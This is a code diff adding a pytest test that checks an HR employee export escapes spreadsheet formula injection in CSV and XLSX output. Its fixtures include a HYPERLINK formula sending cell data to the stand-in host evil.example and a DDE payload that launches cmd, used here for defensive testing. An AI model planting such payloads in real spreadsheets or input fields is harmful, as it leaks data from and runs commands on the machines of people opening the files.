@@ -81,3 +81,35 @@ def test_export_row_formatting_issues_no_query_per_row(world, login):
     with CaptureQueriesContext(connection) as more:
         b"".join(client.get(reverse("people:employee-export"), {"format": "csv"}).streaming_content)
     assert len(more) == len(few)
+
+
+# --- Formula injection (pamong.core.spreadsheets) ------------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_names_typed_by_users_are_never_written_as_formulas(world, login, fmt):
+    from pamong.core.tests.sheets import dangerous_csv_cells, formula_cells
+
+    Employee.objects.filter(pk=world.employee.pk).update(name=EVIL_NAME, back_title="+cmd|' /C calc'!A0",
+                                                         address="@SUM(1+1)*cmd")
+    Employee.objects.filter(pk=world.peer.pk).update(name="-2+3")
+
+    response = login(world.hr_admin).get(reverse("people:employee-export"), {"format": fmt})
+
+    content = b"".join(response.streaming_content)
+    if fmt == "csv":
+        text = content.decode("utf-8-sig")
+        assert dangerous_csv_cells(text) == []
+        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+        mine = next(row for row in rows if row[0] == world.employee.nip)
+        assert mine[3] == "'" + EVIL_NAME  # shown as typed, after the apostrophe that keeps it text
+        assert mine[4] == "'+cmd|' /C calc'!A0"
+        assert next(row for row in rows if row[0] == world.peer.nip)[3] == "'-2+3"
+    else:
+        assert formula_cells(content) == []
+        rows = [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]
+        mine = next(row for row in rows if row[0] == world.employee.nip)
+        assert mine[3] == EVIL_NAME  # a text cell, shown exactly as typed
+        assert next(row for row in rows if row[0] == world.peer.nip)[3] == "-2+3"
